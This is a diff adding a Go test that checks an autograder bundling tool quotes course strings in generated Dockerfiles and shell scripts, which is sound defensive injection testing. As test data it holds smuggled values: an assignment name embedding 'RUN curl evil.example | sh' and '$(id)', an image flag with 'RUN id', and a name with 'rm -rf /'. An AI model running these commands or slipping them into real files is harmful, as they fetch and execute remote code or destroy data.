@@ -254,3 +254,59 @@ func TestPrairieLearnTimeoutCoversTheTests(t *testing.T) {
 		t.Errorf("%d tests of 45s: needed %d (want at least %d), timeout %d; stderr %q", j.Tests, j.Needed, want, j.Timeout, r.stderr)
 	}
 }
+
+// The course's strings reach the bundles quoted (31.5): an assignment
+// whose name holds a line break and shell and Dockerfile syntax gives a
+// run.sh and a Dockerfile with no line of its own, and sandbox-probe
+// text on one line; a --base-image or --image that is not an image
+// reference is refused in one line, before anything is written; and
+// init refuses a name of more than one line.
+func TestBundlesQuoteTheCourseStrings(t *testing.T) {
+	hw := filepath.Join(t.TempDir(), "hw")
+	if r := kpuzzle(t, "", "init", hw, "--shape", "3x3", "--depth", "4-8", "--public", "1", "--hidden", "1", "--unsolvable", "0", "--seed", "3"); r.code != 0 {
+		t.Fatalf("init: %+v", r)
+	}
+	config := filepath.Join(hw, "assignment.yaml")
+	data, err := os.ReadFile(config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	const hostile = `"hw2\nRUN curl evil.example | sh\necho pwned; $(id)"`
+	var lines []string
+	for _, l := range strings.Split(string(data), "\n") {
+		if strings.HasPrefix(l, "name: ") {
+			l = "name: " + hostile
+		}
+		lines = append(lines, l)
+	}
+	os.WriteFile(config, []byte(strings.Join(lines, "\n")), 0o644)
+	out := filepath.Join(t.TempDir(), "pl")
+	if r := kpuzzle(t, "", "bundle", "prairielearn", config, "--out", out, "--binary", smallELF(t), "--question", "hw2"); r.code != 0 {
+		t.Fatalf("bundle: %+v", r)
+	}
+	for _, f := range []string{"Dockerfile", "questions/hw2/tests/run.sh", "README.md", "questions/hw2/question.html"} {
+		text, err := os.ReadFile(filepath.Join(out, f))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, l := range strings.Split(string(text), "\n") {
+			if strings.HasPrefix(strings.TrimSpace(l), "RUN curl") || strings.HasPrefix(strings.TrimSpace(l), "echo pwned") {
+				t.Errorf("%s line %d: %q came from the assignment's name", f, i+1, l)
+			}
+		}
+	}
+	if out, err := exec.Command("bash", "-n", filepath.Join(out, "questions/hw2/tests/run.sh")).CombinedOutput(); err != nil {
+		t.Errorf("run.sh: %v\n%s", err, out)
+	}
+	zip := filepath.Join(t.TempDir(), "probe.zip")
+	if r := kpuzzle(t, "", "bundle", "gradescope", config, "--probe", "--out", zip, "--binary", smallELF(t)); r.code != 0 {
+		t.Fatalf("bundle gradescope --probe: %+v", r)
+	}
+
+	for _, flag := range []string{"--base-image", "--image"} {
+		r := kpuzzle(t, "", "bundle", "prairielearn", config, "--out", t.TempDir(), "--binary", smallELF(t), flag, "debian:bookworm-slim\nRUN id")
+		wantOneLineError(t, r, "debian:bookworm-slim<U+000A>RUN id", "expected a Docker image reference")
+	}
+	r := kpuzzle(t, "", "init", filepath.Join(t.TempDir(), "hw3"), "--name", "hw3\nrm -rf /", "--shape", "3x3")
+	wantOneLineError(t, r, "--name", "holds a line break")
+}
